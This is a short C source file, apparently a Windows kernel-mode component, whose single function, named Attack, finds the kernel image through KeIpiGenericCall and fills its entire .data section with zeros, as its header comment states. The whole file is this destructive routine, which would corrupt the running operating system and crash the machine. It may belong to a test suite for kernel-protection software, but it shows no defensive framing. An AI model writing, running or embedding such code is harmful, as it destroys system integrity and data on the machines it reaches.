/* SPDX-License-Identifier: MIT */
/* Fills the kernel's data with zeros. */
#include "hostile.h"

static VOID Attack(VOID)
{
    ULONG size = 0;
    UCHAR *data = Section(ImageOf((VOID *)(ULONG_PTR)&KeIpiGenericCall), ".data", &size);

    Fill(data, 0, size);
}
